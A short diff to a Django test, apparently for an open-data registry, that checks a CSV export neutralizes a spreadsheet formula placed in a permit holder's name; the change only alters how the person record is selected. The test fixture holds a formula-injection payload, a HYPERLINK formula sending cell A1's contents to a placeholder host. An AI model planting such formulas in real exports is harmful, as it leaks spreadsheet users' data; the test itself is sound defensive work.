@@ -74,7 +74,7 @@ def test_a_formula_in_a_holders_name_is_neutralized_in_the_csv(
     from apps.registry.models import Person
 
     formula = '=HYPERLINK("http://exemplo.invalid/?x="&A1,"Clique")'
-    Person.objects.filter(pk=olimpia_permit.operator.person_id).update(name=formula)
+    Person.objects.filter(operators=olimpia_permit.operator).update(name=formula)
     call_command("export_open_data", "--as-of", today.isoformat(), stdout=io.StringIO())
     text = client.get("/dados-abertos/3533908/alvaras-em-vigor.csv").getvalue().decode()
     assert list(csv.DictReader(io.StringIO(text)))[0]["holder_name"] == "'" + formula
